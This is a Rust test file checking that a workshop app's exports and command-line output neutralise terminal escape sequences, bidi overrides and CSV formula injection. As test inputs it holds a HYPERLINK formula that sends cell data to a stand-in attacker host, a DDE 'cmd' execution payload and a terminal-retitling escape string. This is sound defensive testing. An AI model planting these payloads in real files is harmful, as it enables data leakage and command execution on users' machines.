//! Text from a hostile file (escape sequences, bidi overrides) reaches
//! no output raw: not the exports, not what the command line prints.

use crate::domain::Workshop;
use crate::domain::text::is_active;
use crate::export::tests::{example, files};
use crate::export::*;
use crate::i18n::Lang;
use proptest::prelude::*;
use std::sync::Arc;

/// Puts `text` everywhere a file can carry text a person typed, as a
/// hand-edited or imported file would (the app cleans what is typed;
/// a file is not typed).
fn with_text_everywhere(text: &str) -> Workshop {
    let mut w = example();
    w.details_mut().title = format!("Titre {text}");
    w.details_mut().territory = text.to_string();
    let p = Arc::make_mut(&mut w.proposals_mut()[0]);
    p.text = format!("{text} fin");
    p.author = text.to_string();
    w.participants_mut()[0].name = text.to_string();
    w.participants_mut()[0].organisation = text.to_string();
    w.sheets_mut()[0].title = text.to_string();
    w.sheets_mut()[0].constat = text.to_string();
    w.sheets_mut()[0].pilote.institution = text.to_string();
    w.rounds_mut()[0].name = text.to_string();
    w.axes_mut()[0].short = text.to_string();
    w
}

fn active_in(name: &str, bytes: &[u8]) -> Option<String> {
    let text = String::from_utf8_lossy(bytes);
    text.char_indices()
        .find(|(_, c)| is_active(*c) && *c != '\r')
        .map(|(i, c)| format!("{name}: U+{:04X} at byte {i}", c as u32))
}

fn every_output(w: &Workshop) -> Vec<(String, Vec<u8>)> {
    let mut out = crate::export::tests::every_export(w);
    // What the command line prints, through its writer.
    let mut printed = crate::subcommands::Neutral(Vec::new());
    use std::io::Write;
    let _ = write!(printed, "{}", crate::subcommands::summary_text(Lang::Fr, w));
    let _ = write!(printed, "{}", crate::subcommands::one_line(Lang::En, w));
    out.push(("cli".into(), printed.0));
    out
}

#[test]
fn an_escape_sequence_in_a_file_reaches_no_output_raw() {
    let w = with_text_everywhere("\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{8}\u{7f}\u{9b}\u{202e}");
    for (name, bytes) in every_output(&w) {
        assert_eq!(active_in(&name, &bytes), None);
        let text = String::from_utf8_lossy(&bytes);
        if name.contains(".md ") || name == "cli" {
            assert!(
                text.contains("PWNED") && text.contains('␛') && text.contains('␇'),
                "{name} shows what was there"
            );
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// Any text put into a workshop comes out of every export and the
    /// command line's output with no control character.
    #[test]
    fn any_text_leaves_no_control_character_in_any_output(text in "\\PC{0,8}[\\x00-\\x1f\\x7f-\\x9f\\u{202a}-\\u{202e}\\u{2066}-\\u{2069}]{1,6}\\PC{0,8}") {
        let w = with_text_everywhere(&text);
        for (name, bytes) in every_output(&w) {
            prop_assert_eq!(active_in(&name, &bytes), None);
        }
    }
}

#[test]
fn formula_cells_are_defused_for_spreadsheets_only() {
    let mut w = example();
    let p = Arc::make_mut(&mut w.proposals_mut()[0]);
    p.text = "=HYPERLINK(\"http://evil.example/?q=\"&A1;\"clic\")".into();
    p.author = "+cmd|' /C calc'!A0".into();
    let q = Arc::make_mut(&mut w.proposals_mut()[1]);
    q.text = "-30 % de non-recours".into();
    q.author = "@SUM(1+1)".into();
    let french = files(&w, Format::Csv, &Options::new(Lang::Fr));
    let csv = &french["propositions.csv"];
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    assert!(csv.contains("'+cmd|"), "{csv}");
    assert!(csv.contains("'-30 % de non-recours"), "{csv}");
    assert!(csv.contains("'@SUM(1+1)"), "{csv}");
    assert!(
        !csv.contains(";=HYPERLINK") && !csv.contains(";\"=HYPERLINK"),
        "{csv}"
    );
    let mut opts = Options::new(Lang::Fr);
    opts.csv = CsvStyle::Standard;
    let standard = files(&w, Format::Csv, &opts);
    let csv = &standard["propositions.csv"];
    assert!(
        csv.contains(",-30 % de non-recours,"),
        "programs read it as typed: {csv}"
    );
    assert!(!csv.contains("'-30"), "{csv}");
}

/// U+0085 is a control character that Unicode also calls a space: the
/// Markdown writer kept it raw outside an emphasis (found by the property
/// below).
#[test]
fn a_control_character_counted_as_space_is_shown_too() {
    let w = with_text_everywhere("\u{85}¡");
    for (name, bytes) in every_output(&w) {
        assert_eq!(active_in(&name, &bytes), None);
    }
}
